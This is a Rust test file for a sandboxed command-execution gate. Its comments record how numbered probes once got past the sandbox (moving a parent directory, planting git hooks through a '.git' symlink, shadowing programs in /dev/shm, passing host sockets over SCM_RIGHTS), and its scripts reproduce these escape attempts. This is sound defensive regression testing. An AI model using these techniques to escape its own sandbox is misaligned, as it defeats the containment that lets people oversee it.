    let script = "/usr/bin/timeout 100 /usr/bin/sleep 1000.625 & p=$!; read -r _ < go; \
        kill -TERM $p; for i in {1..100}; do kill -0 $p 2>/dev/null || break; sleep 0.1; done; \
        if kill -0 $p 2>/dev/null; then print not-reached; kill -KILL $p; fi; \
        wait $p; print status=$?";
    let mut shell = spawn_session_shell(&mut session, script, &world.ws);
    recorder.wait_for_started_by(1, &mut shell).await;
    wait_for_state("/usr/bin/sleep 1000.625", |state| state != 'T').await;
    fs::write(&go, "\n").unwrap();
    let output = finish(shell).await;
    session.shutdown().await;
    assert_eq!(output.stdout, "status=143\n", "{}", output.stderr);
}

/// Probe 182 too: Ctrl-Z (a stand-in's `SIGTSTP`, then the server's
/// `SIGSTOP`) stops a sandboxed program in a group of its own, and `fg`'s
/// `SIGCONT` continues it.
#[tokio::test(flavor = "multi_thread")]
async fn ctrl_z_stops_a_sandboxed_program_in_a_group_of_its_own() {
    use nix::sys::signal::{kill, Signal};
    use nix::unistd::Pid;
    let world = World::new();
    let policy = policy_by_path(&[(
        "/usr/bin/timeout",
        Decision::Escalate(Execution::TurnDefault),
    )]);
    let (mut session, recorder) = start_sandboxed_session(policy, world.profile(), &world.ws);
    let script = "/usr/bin/timeout 100 /usr/bin/sleep 1000.875; print status=$?";
    let mut shell = spawn_session_shell(&mut session, script, &world.ws);
    recorder.wait_for_started_by(1, &mut shell).await;
    wait_for_state("/usr/bin/sleep 1000.875", |state| state != 'T').await;
    let stand_in = Pid::from_raw(recorder.decided()[0].peer.pid);
    kill(stand_in, Signal::SIGTSTP).unwrap();
    wait_for_state("/usr/bin/sleep 1000.875", |state| state == 'T').await;
    kill(stand_in, Signal::SIGCONT).unwrap();
    wait_for_state("/usr/bin/sleep 1000.875", |state| state != 'T').await;
    kill(stand_in, Signal::SIGINT).unwrap();
    let output = finish(shell).await;
    session.shutdown().await;
    assert_eq!(output.stdout, "status=130\n", "{}", output.stderr);
}

/// A hidden file the host removes while a session runs is not made again
/// by the sandboxes the session starts later, from the policy it resolved
/// at its start: bubblewrap made an empty file there to cover, left on the
/// host (and failed where the directory was read-only).
#[tokio::test(flavor = "multi_thread")]
async fn a_hidden_file_the_host_removes_is_not_made_again_by_later_sandboxes() {
    let world = World::new();
    let policy = policy_by_path(&[("/usr/bin/dash", Decision::Escalate(Execution::TurnDefault))]);
    let (mut session, recorder) = start_sandboxed_session(policy, world.profile(), &world.ws);
    let go = world.ws.join("go");
    nix::unistd::mkfifo(&go, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let script = "dash -c 'echo ran'; read -r _ < go; for i in 1 2 3; do dash -c 'echo ran'; done";
    let mut shell = spawn_session_shell(&mut session, script, &world.ws);
    let secret = world.ws.join("secret.env");
    // The first escalation starts the spares.
    let first = recorder.wait_for_started_by(1, &mut shell).await;
    assert_eq!(
        both_spares(&world.ws, &first).await.len(),
        2,
        "the spares started"
    );
    // Their views made: bubblewrap mounts before it executes the helper.
    for _ in 0..1000 {
        if spares_ready(&world.ws, &first) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    assert!(spares_ready(&world.ws, &first), "the spares are ready");
    fs::remove_file(&secret).unwrap();
    fs::write(&go, "\n").unwrap();
    // The last ran in a sandbox started after the removal.
    recorder.wait_for_started_by(4, &mut shell).await;
    let output = finish(shell).await;
    session.shutdown().await;
    assert_eq!(output.stdout, "ran\nran\nran\nran\n", "{}", output.stderr);
    assert!(
        fs::symlink_metadata(&secret).is_err(),
        "{} was made again",
        secret.display()
    );
}

/// A spare that ended before its command came (killed from outside) is not
/// used: it is reaped, and the escalation starts a sandbox of its own.
#[tokio::test(flavor = "multi_thread")]
async fn an_escalation_whose_spare_ended_starts_its_own_sandbox() {
    let world = World::new();
    let policy = policy_by_path(&[("/usr/bin/dash", Decision::Escalate(Execution::TurnDefault))]);
    let (mut session, recorder) = start_sandboxed_session(policy, world.profile(), &world.ws);
    let go = world.ws.join("go");
    nix::unistd::mkfifo(&go, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    // The first escalation still runs while its spares start (CI: killed
    // with them when taken for one).
    let script = "dash -c 'sleep 0.5; echo first'; read -r _ < go; dash -c 'sleep 1; echo second'";
    let mut shell = spawn_session_shell(&mut session, script, &world.ws);
    let first = recorder.wait_for_started_by(1, &mut shell).await;
    let spares = both_spares(&world.ws, &first).await;
    assert_eq!(spares.len(), 2, "the session started its spares");
    for pid in &spares {
        nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(*pid),
            nix::sys::signal::Signal::SIGKILL,
        )
        .unwrap();
    }
    // Ended, not only sent its death: a spare the kill has not yet reached
    // when its command comes takes the command and dies with it.
    for pid in &spares {
        for _ in 0..500 {
            if process_state(*pid).is_none_or(|state| state == 'Z') {
                break;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }
    tokio::task::spawn_blocking(move || fs::write(go, "go\n").unwrap())
        .await
        .unwrap();
    let pids = recorder.wait_for_started(2).await;
    let second = fs::read(format!("/proc/{}/cmdline", pids[1])).unwrap_or_default();
    let output = finish(shell).await;
    assert!(
        second.split(|&b| b == 0).any(|arg| arg == b"--exec-fd"),
        "the second escalation started a sandbox with its command: {:?} {output:?}",
        String::from_utf8_lossy(&second)
    );
    assert_eq!(output.stdout, "first\nsecond\n", "{}", output.stderr);
    assert_eq!(output.code(), Some(0), "{}", output.stderr);
    session.shutdown().await;
    for pid in spares {
        assert!(
            !Path::new(&format!("/proc/{pid}")).exists(),
            "the dead spare {pid} was reaped"
        );
    }
}

/// A probe whose profile could write the parent of its workspace moved
/// that parent aside: under the new name, the workspace's `.agents` could
/// be created and a late file a glob relative to the workspace denied
/// could be read (the supervisor judges by path), and moving it back left
/// them in the real workspace. A directory holding a writable root, a root
/// of deny globs or a mount of the sandbox does not move (EBUSY); other
/// directories do.
#[tokio::test(flavor = "multi_thread")]
async fn a_directory_holding_the_workspace_does_not_move() {
    let dir = tempfile::tempdir().unwrap();
    let parent = fs::canonicalize(dir.path()).unwrap();
    let ws = parent.join("mid/ws");
    fs::create_dir_all(ws.join("config")).unwrap();
    fs::create_dir_all(parent.join("other/inner")).unwrap();
    // A directory kept read-only inside a writable root (the config's, a
    // `.git`): the CLI counts on a link in it staying where it is.
    fs::create_dir_all(parent.join("ro/kept")).unwrap();
    let mut profile = PermissionProfile::preset("workspace-write").unwrap();
    let PermissionProfile::Managed { file_system, .. } = &mut profile else {
        unreachable!()
    };
    file_system
        .push(
            parse_target(parent.to_str().unwrap(), None).unwrap(),
            Access::Write,
        )
        .unwrap();
    file_system
        .push(parse_target("config/*.key", None).unwrap(), Access::None)
        .unwrap();
    let kept = parent.join("ro/kept");
    file_system
        .push(
            parse_target(kept.to_str().unwrap(), None).unwrap(),
            Access::Read,
        )
        .unwrap();
    let script = format!(
        "cd {parent}; \
         mv mid moved 2>/dev/null || print mid-stays; \
         mv mid/ws mid/ws2 2>/dev/null || print ws-stays; \
         mv ro ro2 2>/dev/null || print ro-stays; \
         mv other elsewhere && print other-moves; \
         mkdir moved/ws/.agents 2>/dev/null && print ESCAPED; \
         print the-end",
        parent = parent.display()
    );
    let (output, _) = run_sandboxed(policy_by_path(&[]), profile, &script, &ws).await;
    assert_eq!(
        output.stdout, "mid-stays\nws-stays\nro-stays\nother-moves\nthe-end\n",
        "{}",
        output.stderr
    );
    assert!(ws.is_dir());
    assert!(!ws.join(".agents").exists());
}

/// A workspace whose `.git` is a link: no directory to mount read-only.
/// Probes wrote hooks through such a link into a repository beside the
/// workspace, removed it and made the workspace itself a repository, made
/// what a dangling one led to, and redirected a link it led through; the
/// user's own git then ran what they planted. No sandbox starts there; the
/// error says to use a `gitdir:` file, which is kept read-only with its
/// gitdir.
#[tokio::test(flavor = "multi_thread")]
async fn a_workspace_whose_git_is_a_link_starts_no_sandbox() {
    use execgate_escalate_server::sandbox::{Launcher, SandboxContext};
    use execgate_escalate_server::SessionSandbox;
    let dir = tempfile::tempdir().unwrap();
    let base = fs::canonicalize(dir.path()).unwrap();
    let ws = base.join("ws");
    fs::create_dir(&ws).unwrap();
    std::os::unix::fs::symlink(base.join("repository.git"), ws.join(".git")).unwrap();
    let mut config = SessionConfig::new(wrapper(), policy_by_path(&[]));
    config.sandbox = Some(SessionSandbox {
        launcher: Launcher::new(sandbox_helper()).unwrap(),
        turn_default: PermissionProfile::preset("workspace-write").unwrap(),
        context: SandboxContext::new(&ws),
    });
    let refused = Session::start(config).err().map(|error| error.to_string());
    assert!(
        refused
            .as_deref()
            .is_some_and(|error| error.contains(&format!(
                "{}/.git is a symbolic link (to {}/repository.git), which the sandbox cannot keep \
             read-only",
                ws.display(),
                base.display()
            )) && error.contains("gitdir: ")),
        "{refused:?}"
    );
    // Nor can a sandbox make one, for the next session to refuse (a
    // review planted one); `git init` still works.
    let clean = base.join("clean");
    fs::create_dir(&clean).unwrap();
    // The links lead into the test's own directory: where one were made,
    // `git init` would write through it.
    let script = "mkdir elsewhere; ln -s elsewhere .git 2>/dev/null && print ESCAPED; \
                  ln -s elsewhere staged && mv staged .git 2>/dev/null && print ESCAPED; \
                  rm -f .git staged; git init -q && print initialized";
    let profile = PermissionProfile::preset("workspace-write").unwrap();
    let (output, _) = run_sandboxed(policy_by_path(&[]), profile, script, &clean).await;
    assert_eq!(output.stdout, "initialized\n", "{}", output.stderr);
}

/// The set-ID refusal is for files: directories may have the bits, where
/// they grant nothing and the set-group-ID one is inherited, so that tools
/// pass it back in every mode they set on a directory of such a tree (a
/// probe found `chmod 775`, `cp -a`, `shutil.copytree` and `mkdir -m 2775`
/// refused there). A file still may not.
#[tokio::test(flavor = "multi_thread")]
async fn directories_may_have_set_id_bits() {
    let world = World::new();
    let shared = world.ws.join("shared");
    fs::create_dir_all(shared.join("sub")).unwrap();
    fs::set_permissions(&shared, fs::Permissions::from_mode(0o2775)).unwrap();
    fs::set_permissions(shared.join("sub"), fs::Permissions::from_mode(0o2775)).unwrap();
    let script = "python3 -c 'import os; os.mkdir(\"other\", 0o6775)' && print made; \
                  cp -r shared copy && print copied; \
                  cp -a shared archived && print archived; \
                  chmod 775 shared/sub && print chmod-kept; \
                  mkdir -m 2775 made && print mkdir-m; \
                  python3 -c 'import shutil; shutil.copytree(\"shared\", \"tree\")' && print copytree; \
                  print x > shared/file; chmod g+s shared/file 2>/dev/null || print file-refused";
    let (output, _) = run_sandboxed(policy_by_path(&[]), world.profile(), script, &world.ws).await;
    assert_eq!(
        output.stdout, "made\ncopied\narchived\nchmod-kept\nmkdir-m\ncopytree\nfile-refused\n",
        "{}",
        output.stderr
    );
    let mode = |path: &str| {
        fs::metadata(world.ws.join(path))
            .unwrap()
            .permissions()
            .mode()
            & 0o7777
    };
    assert_eq!(mode("made"), 0o2775);
    assert_eq!(mode("shared/file") & 0o6000, 0);
}

/// Probe 126: a program a sandboxed command put in its own `/dev/shm` was
/// decided on the host's file at the same path, when there was one: the
/// record named the host's file, and a rule on that path judged another
/// program than the one executed. Such a request is refused, saying why.
/// (The sandbox's `/run`, its other tmpfs, is not writable.)
#[tokio::test(flavor = "multi_thread")]
async fn a_program_in_the_sandboxes_own_dev_is_refused() {
    let world = World::new();
    let name = format!("execgate-shadow-{}", std::process::id());
    let host = Path::new("/dev/shm").join(&name);
    fs::copy("/usr/bin/true", &host).unwrap();
    let script = format!(
        "cp /usr/bin/id /dev/shm/{name} && /dev/shm/{name}; print status=$?; \
         ln -s /dev/shm/{name} link && ./link; print status=$?"
    );
    let (output, recorder) =
        run_sandboxed(policy_by_path(&[]), world.profile(), &script, &world.ws).await;
    fs::remove_file(host).unwrap();
    assert_eq!(
        output.stdout, "status=126\nstatus=126\n",
        "{}",
        output.stderr
    );
    let refusals = recorder.refusals();
    assert_eq!(refusals.len(), 2, "{refusals:?}");
    assert!(
        refusals
            .iter()
            .all(|reason| reason.contains("the sandbox's own /dev")),
        "{refusals:?}"
    );
}

/// Probe 187: a request written by hand (the wrapper run with a path of
/// one's choosing) escalated a program the sandbox cannot see, found by
/// the server at that path in its own view: one in a directory the
/// profile hides, and one under the host's `/run`, beneath the sandbox's
/// own. Nothing outside the sandbox runs what no shell in it could, and
/// the refusal reads as one for a file that is not there.
#[tokio::test(flavor = "multi_thread")]
async fn an_escalation_of_a_program_the_sandbox_cannot_see_is_refused() {
    let world = World::new();
    let hidden = world.home.join(".ssh").join("tool");
    fs::create_dir_all(world.home.join(".ssh")).unwrap();
    let under_run = world.run_dir.join("tool");
    for program in [&hidden, &under_run] {
        fs::copy("/usr/bin/id", program).unwrap();
    }
    let policy = policy_by_path(&[
        (hidden.to_str().unwrap(), escalate()),
        (under_run.to_str().unwrap(), escalate()),
        // The control: the same request for a program the sandbox sees.
        ("/usr/bin/id", escalate()),
    ]);
    let ask = |path: &Path| {
        let path = path.display();
        format!(
            "\"$EXECGATE_WRAPPER\" \"$EXECGATE_SOCKET_FD\" {path} {path} 'zsh: ' tool tool -u \
             >/dev/null; print status=$?"
        )
    };
    let script = [ask(Path::new("/usr/bin/id")), ask(&hidden), ask(&under_run)].join("; ");
    let (output, recorder) = run_sandboxed(policy, world.profile(), &script, &world.ws).await;
    assert_eq!(
        output.stdout, "status=0\nstatus=126\nstatus=126\n",
        "{}",
        output.stderr
    );
    let refusals = recorder.refusals();
    assert_eq!(refusals.len(), 2, "{refusals:?}");
    for (refusal, path) in refusals.iter().zip([&hidden, &under_run]) {
        assert_eq!(
            refusal,
            &format!(
                "cannot check the executable: cannot open {path:?}: No such file or directory \
                 (os error 2){}",
                if path.starts_with("/run") {
                    " (a sandbox has its own /dev and /run, which execgate does not see from \
                     outside: run programs from the workspace or the temporary directory)"
                } else {
                    ""
                }
            )
        );
    }
    assert_eq!(recorder.started_pids().len(), 1);
    assert!(recorder.spawn_failures().is_empty());
}

/// A session whose shell runs outside its sandbox does not look a
/// request up in the requester's view until it has started a sandbox;
/// from then on it does: an escalation into the session's sandbox, handed
/// the session socket by the shell (a descriptor it duplicated without
/// close-on-exec), asks for a program under the host's `/run`, where the
/// sandbox has its own, and is refused as a sandboxed shell would be. The
/// control: the shell itself asks for the same program, which it sees,
/// and it runs.
#[tokio::test(flavor = "multi_thread")]
async fn a_sandboxed_escalation_handed_the_socket_is_checked_in_a_session_whose_shell_is_not() {
    let world = World::new();
    let under_run = world.run_dir.join("tool");
    fs::copy("/usr/bin/id", &under_run).unwrap();
    let policy = policy_by_path(&[
        (under_run.to_str().unwrap(), escalate()),
        ("/usr/bin/env", Decision::Escalate(Execution::TurnDefault)),
    ]);
    let (wrapper, zsh) = (wrapper(), zsh());
    let ask = |socket: &str| {
        format!(
            "{wrapper} {socket} {path} {path} 'zsh: ' tool tool -u >/dev/null; print status=$?",
            wrapper = wrapper.display(),
            path = under_run.display(),
        )
    };
    let script = format!(
        "{shell_asks}; exec 7<&$EXECGATE_SOCKET_FD; /usr/bin/env {zsh} -fc \"{inside_asks}\"",
        shell_asks = ask("$EXECGATE_SOCKET_FD"),
        zsh = zsh.display(),
        inside_asks = ask("7").replace('$', "\\$"),
    );
    let (mut session, recorder) = start_sandboxed_session(policy, world.profile(), &world.ws);
    let mut command = std::process::Command::new(&zsh);
    command.args(["-f", "-c", &script]);
    session.prepare_shell(&mut command);
    command
        .current_dir(&world.ws)
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let child = tokio::process::Command::from(command)
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    session.shell_spawned();
    let output = finish(child).await;
    session.shutdown().await;
    assert_eq!(output.stdout, "status=0\nstatus=126\n", "{}", output.stderr);
    let refusals = recorder.refusals();
    assert_eq!(
        refusals,
        [format!(
            "cannot check the executable: cannot open {under_run:?}: No such file or \
             directory (os error 2) (a sandbox has its own /dev and /run, which execgate does \
             not see from outside: run programs from the workspace or the temporary directory)"
        )]
    );
}

/// What the shell's sandbox, whose network is restricted, does with a
/// socket an escalation with the network made and handed back over a
/// socketpair the shell gave it (`take.py`).
const TAKE_A_HANDED_SOCKET: &str = r#"
import array, os, socket, subprocess, sys
zsh, port = sys.argv[1], int(sys.argv[2])
def attempt(name, action):
    try:
        action()
        print(name, "reached")
    except OSError as error:
        print(name, "refused", error.errno)
ours, theirs = socket.socketpair()
socket_fd = int(os.environ["EXECGATE_SOCKET_FD"])
os.set_inheritable(theirs.fileno(), True)
os.set_inheritable(socket_fd, True)
giver = "dash -c 'python3 give.py %d'" % theirs.fileno()
escalation = subprocess.Popen([zsh, "-fc", giver], pass_fds=[socket_fd, theirs.fileno()])
theirs.close()
_, ancillary, _, _ = ours.recvmsg(1, socket.CMSG_LEN(8))
handed = array.array("i")
handed.frombytes(ancillary[0][2][:8])
escalation.wait()
tcp = socket.socket(fileno=handed[0])
udp = socket.socket(fileno=handed[1])
attempt("tcp", lambda: tcp.connect(("127.0.0.1", port)))
attempt("udp", lambda: udp.sendto(b"out", ("127.0.0.1", port)))
"#;

/// The escalation's part (`give.py`): a TCP and a UDP socket of the
/// host's network, handed over unconnected.
const GIVE_SOCKETS: &str = r#"
import array, socket, sys
channel = socket.socket(fileno=int(sys.argv[1]))
tcp, udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
fds = array.array("i", [tcp.fileno(), udp.fileno()])
channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds.tobytes())])
"#;

/// Probe 189: an escalation with the network made sockets and handed them
/// back to the shell over a socketpair the shell gave it; the shell, whose
/// own sockets can reach nothing, then connected and sent through them to
/// the host's services, long after the escalation ended. A sandbox with a
/// confined network connects only sockets of its own network namespace,
/// and sends to no address given with the call.
#[tokio::test(flavor = "multi_thread")]
async fn a_socket_handed_in_from_outside_reaches_nothing_from_a_confined_network() {
    let world = World::new();
    fs::write(world.ws.join("take.py"), TAKE_A_HANDED_SOCKET).unwrap();
    fs::write(world.ws.join("give.py"), GIVE_SOCKETS).unwrap();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = tcp.local_addr().unwrap().port();
    let udp = UdpSocket::bind(("127.0.0.1", port)).unwrap();
    tcp.set_nonblocking(true).unwrap();
    udp.set_nonblocking(true).unwrap();
    let policy = policy_by_path(&[("/usr/bin/dash", escalate())]);
    let script = format!("python3 take.py {} {port}", zsh().display());
    let (output, recorder) = run_sandboxed(policy, world.profile(), &script, &world.ws).await;
    assert_eq!(
        output.stdout,
        format!(
            "tcp refused {}\nudp refused {}\n",
            libc::EACCES,
            libc::EPERM
        ),
        "{}",
        output.stderr
    );
    assert_eq!(recorder.started_pids().len(), 1, "the escalation gave them");
    assert!(tcp.accept().is_err(), "a connection came");
    assert!(udp.recv(&mut [0; 8]).is_err(), "a datagram came");
}

/// Review 40: a file a deny glob matches, made by the host after the
/// sandbox started, is in the sandbox's mounts (nothing covers it) but
/// opens there for nothing; escalated, it ran outside. What the profile
/// hides is not escalated.
#[tokio::test(flavor = "multi_thread")]
async fn a_program_a_deny_glob_hides_is_not_escalated() {
    let world = World::new();
    let late = world.outside.join("late.secret");
    let policy = policy_by_path(&[(late.to_str().unwrap(), escalate())]);
    let mut profile = world.profile();
    let PermissionProfile::Managed { file_system, .. } = &mut profile else {
        unreachable!()
    };
    let glob = format!("{}/*.secret", world.outside.display());
    file_system
        .push(parse_target(&glob, None).unwrap(), Access::None)
        .unwrap();
    let (mut session, recorder) = start_sandboxed_session(policy, profile, &world.ws);
    let go = world.ws.join("go");
    nix::unistd::mkfifo(&go, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let script = format!("read -r _ < go; {} -u; print status=$?", late.display());
    let shell = spawn_session_shell(&mut session, &script, &world.ws);
    fs::copy("/usr/bin/id", &late).unwrap();
    fs::write(&go, "\n").unwrap();
    let output = finish(shell).await;
    session.shutdown().await;
    assert_eq!(output.stdout, "status=126\n", "{}", output.stderr);
    let failures = recorder.spawn_failures();
    assert!(
        failures.len() == 1 && failures[0].contains("the sandbox's profile hides"),
        "{failures:?}"
    );
    assert!(recorder.started_pids().is_empty());
}
